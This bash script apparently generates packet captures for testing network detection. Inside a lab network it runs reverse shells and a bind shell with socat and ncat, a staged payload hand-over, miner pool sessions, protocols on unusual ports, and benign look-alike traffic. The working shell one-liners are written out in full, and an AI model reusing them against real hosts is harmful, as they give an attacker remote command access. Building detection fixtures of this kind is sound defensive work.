#!/bin/bash
# Shells over bare connections, by socat and ncat, from either side; a program handed over as stages are; a miner at a pool by
# three dialects; protocols on the ports of others. And what looks alike: talk, files, a page about shells, RPC that is no pool's.
. "$(dirname "$0")/../lab.sh"
need socat ncat python3 curl openssh-server openssh-client openssl
lab_start
lab_networks 198.51.100.0/24
ended() { stop_servers; lab_save "$HERE/$1.pcap"; lab_record; }
typed() { for line in id 'uname -s' 'echo done' exit; do sleep 0.4; echo "$line"; done; }
lab_save "$LAB/nothing.pcap" && lab_record

typed | on_server socat - TCP-LISTEN:4444,reuseaddr >"$LAB/seen" 2>&1 & wait_port 4444
on_client env -i PS1='\u@\h:\w\$ ' PATH="$PATH" setsid socat TCP:198.51.100.7:4444 EXEC:'bash --norc -i',pty,stderr || true
ended reverse-socat
typed | on_server ncat -l 5555 >"$LAB/seen" 2>&1 & wait_port 5555
on_client timeout 8 ncat -e /bin/sh 198.51.100.7 5555 || true
ended reverse-ncat
server_job socat TCP-LISTEN:31337,reuseaddr,fork EXEC:'sh -i',stderr
wait_port 31337
typed | on_client timeout 8 socat - TCP:$SERVER:31337 >"$LAB/seen" || true
ended bind-socat
server_job python3 "$HERE/hand_over.py"
wait_port 4445
on_client python3 -c 'import socket; s = socket.create_connection(("198.51.100.7", 4445))
while s.recv(4096): pass'
ended stage

for dialect in bitcoin monero ethereum; do
  server_job python3 "$HERE/pool.py" serve 3333
  wait_port 3333
  on_client python3 "$HERE/pool.py" $dialect 198.51.100.20 3333
  ended "pool-$dialect"
done

ssh-keygen -q -t ed25519 -N '' -f "$LAB/host"
mkdir -p /run/sshd
for port in 443 2222; do server_job /usr/sbin/sshd -D -e -f /dev/null -h "$LAB/host" -o "PidFile=$LAB/pid$port" -o UsePAM=no -p $port; wait_port $port; done
visit() { on_client ssh -p "$1" -o StrictHostKeyChecking=no -o "UserKnownHostsFile=$LAB/known" -o BatchMode=yes -o LogLevel=ERROR nobody@198.51.100.8 true 2>/dev/null || true; }
visit 443
ended ssh-on-443
server_job python3 "$HERE/echo.py" 53
wait_port 53
on_client python3 "$HERE/echo.py" 53 198.51.100.9
ended unknown-on-53
mkdir "$LAB/www" && echo hello >"$LAB/www/index.html"
server_job python3 -m http.server -d "$LAB/www" 22
wait_port 22
for _ in 1 2 3; do on_client curl -s -o /dev/null http://198.51.100.9:22/; done
ended http-on-22

# Look-alikes.
server_job /usr/sbin/sshd -D -e -f /dev/null -h "$LAB/host" -o "PidFile=$LAB/pid2222" -o UsePAM=no -p 2222
make_certificate "$LAB/web" web.lab.example
server_job openssl s_server -quiet -accept 8443 -cert "$LAB/web.crt" -key "$LAB/web.key" -www
server_job python3 -m http.server -d "$LAB/www" 8080
for port in 2222 8443 8080; do wait_port $port; done
visit 2222
for url in https://198.51.100.8:8443/ http://198.51.100.8:8080/; do on_client curl -s -k -o /dev/null $url; done
ended own-ports
{ for line in 'hello there' 'is the shell at the beach open?' 'cost: $ 5, # 7' 'bye'; do sleep 0.3; echo "$line"; done; } | on_server ncat -l 6000 >/dev/null & wait_port 6000
printf 'hi\nwe are root and branch\n' | on_client timeout 5 ncat 198.51.100.7 6000 >/dev/null || true
head -c 6000 /usr/share/common-licenses/GPL-3 | on_server ncat --send-only -l 6001 & wait_port 6001
on_client timeout 5 ncat --recv-only 198.51.100.7 6001 >/dev/null
ended talk
server_job python3 "$HERE/pool.py" serve 8545
wait_port 8545
on_client python3 "$HERE/pool.py" other 198.51.100.20 8545
stop_servers
lab_save "$HERE/other-rpc.pcap"
